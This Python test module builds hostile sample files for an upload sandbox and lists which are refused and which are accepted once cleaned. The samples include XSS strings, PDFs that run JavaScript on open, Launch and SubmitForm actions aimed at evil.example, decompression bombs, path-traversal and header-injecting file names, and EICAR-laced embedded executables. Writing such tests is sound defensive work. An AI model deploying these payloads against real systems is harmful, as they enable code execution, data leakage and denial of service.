"""Files that want something else than being read. Each is refused, or nothing of what it wanted is left."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

import pikepdf
from PIL import Image

from tests.files import papers
from tests.files.honest import form_like, saved
from tests.files.papers import flate, paper, stream, with_annotation, with_pages
from tests.files.photos import as_file, chunk, drawn, heic, jpeg, png, png_by_hand, with_segment, with_words
from volunteers.files.sandbox import Why

EVIL = b"<script>alert('evil')</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\('evil'\\)) >>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'>" + EVIL + b"</svg>"
EXE = b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0evil"


def archive(name: str = "evil.txt", content: bytes = b"evil") -> bytes:
    """A ZIP file."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(name, content)
    return out.getvalue()


def encrypted(user: str, owner: str = "owner") -> bytes:
    """A document with passwords."""
    with pikepdf.open(BytesIO(paper())) as document:
        return saved(document, encryption=pikepdf.Encryption(user=user, owner=owner))


def attached() -> bytes:
    """A document that carries a file, as the library does it."""
    with pikepdf.open(BytesIO(paper())) as document:
        document.attachments["evil.exe"] = EXE + EICAR
        return saved(document)


def packed_away() -> bytes:
    """A script inside packed objects, where a search for its name finds nothing."""
    with pikepdf.open(BytesIO(paper(catalog=b"/OpenAction 6 0 R ", more=[SCRIPT]))) as document:
        return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def circle_of_pages() -> bytes:
    """A page tree that contains itself."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 9 >>",
    }
    return papers.bookends(objects)


def deep(depth: int = 20_000) -> bytes:
    """Arrays inside arrays inside arrays."""
    return paper(catalog=b"/PieceInfo " + b"[" * depth + b"]" * depth + b" ")


def packed_twice() -> bytes:
    """300 MB of nothing, packed twice into a few bytes."""
    content = zlib.compress(zlib.compress(b"\0" * 300_000_000))
    return paper(more=[stream(content, b"/Filter [/FlateDecode /FlateDecode] ")], page=b"/X 6 0 R ")


def swollen_table() -> bytes:
    """A table of objects that says it has two thousand million lines."""
    return paper().replace(b"xref\n0 1\n", b"xref\n0 2000000000\n")


def many_words() -> bytes:
    """A PNG whose comment unpacks to 300 MB."""
    packed = b"Comment\0\0" + zlib.compress(b"a" * 300_000_000)
    return png_by_hand(1, 1, zlib.compress(b"\0\0"), extra=chunk(b"zTXt", packed))


def wide_jpeg() -> bytes:
    """A JPEG that says it has 65,000 times 65,000 dots."""
    small = jpeg(drawn((64, 64)))
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack("!HH", 65_000, 65_000) + small[at + 4 :]


def wide_heic() -> bytes:
    """A HEIC that says it has 60,000 times 60,000 dots."""
    small = heic(drawn((64, 64)))
    at = small.index(b"ispe") + 8
    return small[:at] + struct.pack("!LL", 60_000, 60_000) + small[at + 8 :]


def behind(before: bytes, after: bytes) -> Callable[[], bytes]:
    """One file behind another."""
    return lambda: before + after


def on_page(annotation: bytes, *more: bytes) -> Callable[[], bytes]:
    """A document with something on its page."""
    return lambda: with_annotation(annotation, more)


def with_catalog(entry: bytes, *more: bytes) -> Callable[[], bytes]:
    """A document with an entry in its catalog."""
    return lambda: paper(catalog=entry, more=more)


def link(action: bytes) -> Callable[[], bytes]:
    """A document with a link that does this."""
    return on_page(b"/Subtype /Link /A << " + action + b" >>")


def simply(content: bytes) -> Callable[[], bytes]:
    """These bytes."""
    return lambda: content


FILESPEC = b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>"
EMBEDDED = stream(EXE + EICAR, b"/Type /EmbeddedFile ")

REFUSED: Mapping[str, tuple[Why, str, Callable[[], bytes]]] = {
    # not what the name says
    "SVG called PNG": (Why.MISMATCH, "logo.png", simply(SVG)),
    "SVG": (Why.WRONG_TYPE, "logo.svg", simply(SVG)),
    "HTML called PDF": (Why.MISMATCH, "letter.pdf", simply(b"<html>" + EVIL)),
    "HTML": (Why.WRONG_TYPE, "letter.html", simply(b"<html>" + EVIL)),
    "TIFF called JPEG": (Why.MISMATCH, "scan.jpg", lambda: as_file(drawn(), "TIFF")),
    "GIF called PNG": (Why.MISMATCH, "a.png", lambda: as_file(drawn(), "GIF")),
    "BMP called JPEG": (Why.MISMATCH, "a.jpg", lambda: as_file(drawn(), "BMP")),
    "WEBP called JPEG": (Why.MISMATCH, "a.jpg", lambda: as_file(drawn(), "WEBP")),
    "ICO called PNG": (Why.MISMATCH, "a.png", lambda: as_file(drawn((32, 32)), "ICO")),
    "AVIF called HEIC": (Why.MISMATCH, "a.heic", lambda: as_file(drawn(), "AVIF")),
    "film called HEIC": (Why.MISMATCH, "a.heic", simply(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom")),
    "PNG called JPEG": (Why.MISMATCH, "a.jpg", png),
    "JPEG called PNG": (Why.MISMATCH, "a.png", jpeg),
    "JPEG called PDF": (Why.MISMATCH, "a.pdf", jpeg),
    "PDF called JPEG": (Why.MISMATCH, "a.jpg", paper),
    "PostScript called PDF": (Why.MISMATCH, "a.pdf", simply(b"%!PS-Adobe-3.0\n%%EOF")),
    "program called JPEG": (Why.MISMATCH, "a.jpg", simply(EXE)),
    "ZIP called PDF": (Why.MISMATCH, "a.pdf", archive),
    "Word document called PDF": (Why.MISMATCH, "a.pdf", lambda: archive("word/document.xml")),
    "HTML before a PDF": (Why.MISMATCH, "a.pdf", lambda: b"<html>" + EVIL + b"</html>\n" + paper()),
    "ZIP before a PDF": (Why.MISMATCH, "a.pdf", lambda: archive() + paper()),
    "only the beginning of a JPEG": (Why.UNREADABLE, "a.jpg", simply(b"\xff\xd8\xff\xe0" + EVIL)),
    "only the beginning of a PNG": (Why.UNREADABLE, "a.png", simply(b"\x89PNG\r\n\x1a\n" + EVIL)),
    "only the beginning of a PDF": (Why.UNREADABLE, "a.pdf", simply(b"%PDF-1.7\n" + EVIL)),
    # damaged or incomplete
    "JPEG cut off": (Why.UNREADABLE, "a.jpg", lambda: jpeg(Image.effect_noise((400, 400), 90))[:-4000]),
    "PNG cut off": (Why.UNREADABLE, "a.png", lambda: png(Image.effect_noise((400, 400), 90))[:-40_000]),
    "HEIC cut off": (Why.UNREADABLE, "a.heic", lambda: heic(Image.effect_noise((400, 400), 90).convert("RGB"))[:-4000]),
    "PDF cut off": (Why.UNREADABLE, "a.pdf", lambda: paper()[:-200]),
    "PDF without pages": (Why.UNREADABLE, "a.pdf", lambda: with_pages(0)),
    "nothing": (Why.EMPTY, "a.pdf", simply(b"")),
    # protected
    "PDF with a password": (Why.PROTECTED, "a.pdf", lambda: encrypted("secret")),
    "PDF protected against changes": (Why.PROTECTED, "a.pdf", lambda: encrypted("")),
    # bombs
    "PNG of 60,000 times 60,000": (Why.TOO_LARGE, "a.png", simply(png_by_hand(60_000, 60_000, zlib.compress(b"\0" * 100_000)))),
    "JPEG of 65,000 times 65,000": (Why.TOO_LARGE, "a.jpg", wide_jpeg),
    "HEIC of 60,000 times 60,000": (Why.TOO_LARGE, "a.heic", wide_heic),
    "PNG with 300 MB of comment": (Why.UNREADABLE, "a.png", many_words),
    "PDF with 300 MB in a stream": (Why.TOO_LARGE, "a.pdf", lambda: paper(more=[flate(b"\0" * 300_000_000)], page=b"/X 6 0 R ")),
    "PDF packed twice": (Why.TOO_LARGE, "a.pdf", packed_twice),
    "PDF of 10,000 pages": (Why.TOO_MANY_PAGES, "a.pdf", lambda: with_pages(10_000)),
    "PDF whose pages are a circle": (Why.UNREADABLE, "a.pdf", circle_of_pages),
    "PDF nested 20,000 deep": (Why.UNREADABLE, "a.pdf", deep),
    "PDF with a swollen table": (Why.UNREADABLE, "a.pdf", swollen_table),
    "PDF that only a script draws": (Why.UNREADABLE, "a.pdf", with_catalog(b"/NeedsRendering true /AcroForm << /XFA 6 0 R >> ", stream(EVIL))),
    "more than 10 MB": (Why.TOO_BIG, "a.jpg", lambda: jpeg() + b"\0" * 10 * 1024 * 1024),
    # names
    "two endings": (Why.WRONG_TYPE, "cv.pdf.exe", paper),
    "ending turned round": (Why.WRONG_TYPE, "cv\u202efdp.exe", paper),
    "ending after a NUL": (Why.WRONG_TYPE, "cv.exe\x00.html", paper),
    "no ending": (Why.WRONG_TYPE, "cv", paper),
    "only an ending": (Why.WRONG_TYPE, ".pdf", paper),
    "script": (Why.WRONG_TYPE, "a.php", jpeg),
    "shortcut": (Why.WRONG_TYPE, "cv.pdf.lnk", paper),
}  # fmt: skip
"""What is not accepted: why, its name and how it is made."""

HARMLESS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    # two files in one
    "PDF and ZIP": ("a.pdf", lambda: paper() + archive()),
    "PDF and HTML": ("a.pdf", lambda: paper() + EVIL),
    "PDF and HTML in its comments": ("a.pdf", lambda: paper(header=papers.HEADER + b"%" + EVIL + b"\n")),
    "PDF and a virus behind it": ("a.pdf", lambda: paper() + EICAR),
    "PDF with a page nobody sees": ("a.pdf", lambda: paper(more=[stream(EVIL + EICAR)])),
    "JPEG and HTML": ("a.jpg", lambda: jpeg() + EVIL),
    "JPEG and ZIP": ("a.jpg", lambda: jpeg() + archive()),
    "JPEG and PHP": ("a.jpg", lambda: jpeg(comment=b"<?php evil() ?>")),
    "JPEG that is a script": ("a.jpg", lambda: with_segment(jpeg(), 0xFE, b"*/=alert('evil');/*")),
    "JPEG with HTML in its EXIF": ("a.jpg", lambda: jpeg(exif=b"Exif\0\0" + EVIL)),
    "PNG and HTML": ("a.png", lambda: png(pnginfo=with_words(Comment=EVIL.decode()))),
    "PNG and a program": ("a.png", lambda: png() + EXE),
    "HEIC and HTML": ("a.heic", lambda: heic(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0" + EVIL)),
    # documents that act
    "script on opening": ("a.pdf", with_catalog(b"/OpenAction " + SCRIPT + b" ")),
    "script on opening, elsewhere": ("a.pdf", with_catalog(b"/OpenAction 6 0 R ", SCRIPT)),
    "script in packed objects": ("a.pdf", packed_away),
    "script in a stream": ("a.pdf", with_catalog(b"/OpenAction << /S /JavaScript /JS 6 0 R >> ", stream(b"evil()"))),
    "script with a written-out name": ("a.pdf", with_catalog(b"/Open#41ction << /#53 /Java#53cript /J#53 (evil) >> ")),
    "script in the names": ("a.pdf", with_catalog(b"/Names << /JavaScript << /Names [(a) " + SCRIPT + b"] >> >> ")),
    "script in the names, elsewhere": ("a.pdf", with_catalog(b"/Names 6 0 R ", b"<< /JavaScript 7 0 R >>", b"<< /Names [(a) 8 0 R] >>", SCRIPT)),
    "script on closing": ("a.pdf", with_catalog(b"/AA << /WC " + SCRIPT + b" >> ")),
    "script of a page": ("a.pdf", lambda: paper(page=b"/AA << /O " + SCRIPT + b" >> ")),
    "script of a field": ("a.pdf", lambda: form_like(field=b"/AA << /K " + SCRIPT + b" >> ")),
    "script behind a link": ("a.pdf", link(b"/S /JavaScript /JS (evil)")),
    "script after a link": ("a.pdf", link(b"/S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT)),
    "script deep in arrays": ("a.pdf", with_catalog(b"/Threads [[[<< /I [<< /X " + SCRIPT + b" >>] >>]]] ")),
    "script of a bookmark": ("a.pdf", with_catalog(b"/Outlines 6 0 R ", b"<< /First 7 0 R /Last 7 0 R /Count 1 >>", b"<< /Title (a) /Parent 6 0 R /A " + SCRIPT + b" >>")),
    "link that is a script": ("a.pdf", link(b"/S /URI /URI (javascript:alert\\('evil'\\))")),
    "link that is a hidden script": ("a.pdf", link(b"/S /URI /URI (java\\nscript:evil)")),
    "link to a file": ("a.pdf", link(b"/S /URI /URI (file:///etc/evil)")),
    "link to another machine's folder": ("a.pdf", link(b"/S /URI /URI (\\\\\\\\evil\\\\share)")),
    "starts a program": ("a.pdf", link(b"/S /Launch /F (evil.exe) /Win << /F (evil.exe) >>")),
    "sends the form": ("a.pdf", link(b"/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>")),
    "fills the form from elsewhere": ("a.pdf", link(b"/S /ImportData /F (evil.fdf)")),
    "opens another document": ("a.pdf", link(b"/S /GoToR /F (evil.pdf) /D [0 /Fit]")),
    "opens a carried document": ("a.pdf", link(b"/S /GoToE /F (evil.pdf) /D [0 /Fit]")),
    "plays a film": ("a.pdf", on_page(b"/Subtype /Screen /A << /S /Rendition /JS (evil) /R << /S /MR >> >>")),
    "rich media": ("a.pdf", on_page(b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(evil.swf) 6 0 R] >> >>", FILESPEC, EMBEDDED)),
    "space to look around in": ("a.pdf", on_page(b"/Subtype /3D /3DD 6 0 R", stream(EVIL, b"/Type /3D /OnInstantiate 7 0 R "), stream(b"evil"))),
    "carries a file": ("a.pdf", attached),
    "carries a file on a page": ("a.pdf", on_page(b"/Subtype /FileAttachment /FS 6 0 R", FILESPEC, EMBEDDED)),
    "carries a file that belongs to it": ("a.pdf", with_catalog(b"/AF [6 0 R] ", FILESPEC, EMBEDDED)),
    "carries a collection": ("a.pdf", with_catalog(b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> ", FILESPEC, EMBEDDED)),
    "second form in XML": ("a.pdf", lambda: form_like(form=b"/XFA [(template) 8 0 R] ")),
    "content in another file": ("a.pdf", lambda: paper(page=b"/Contents 6 0 R ".replace(b"/Contents", b"/B"), more=[stream(b"", b"/F (evil.bin) ")])),
    "page of another document": ("a.pdf", lambda: paper(page=b"/X 6 0 R ", more=[stream(b"", b"/Subtype /Form /Ref << /F (evil.pdf) /Page 0 >> ")])),
    "base of its links is a script": ("a.pdf", with_catalog(b"/URI << /Base (javascript:evil) >> ")),
    # names
    "name that climbs": ("../../../etc/evil/cv.pdf", paper),
    "name that climbs on Windows": ("..\\..\\windows\\evil\\cv.pdf", paper),
    "name with line breaks": ("cv\r\nSet-Cookie: evil=1.pdf", paper),
    "name of 300 letters": ("a" * 300 + ".pdf", paper),
    "name that begins with dots": ("...evil.pdf", paper),
    "name turned round": ("evil\u202egpj.pdf", paper),
    "name with HTML": ("<img src=x onerror=evil>.pdf", paper),
    "name with a quotation mark": ('cv"; filename="evil.pdf', paper),
    "name of a program, then of a picture": ("evil.exe.jpg", jpeg),
}  # fmt: skip
"""What is accepted, without what it wanted."""
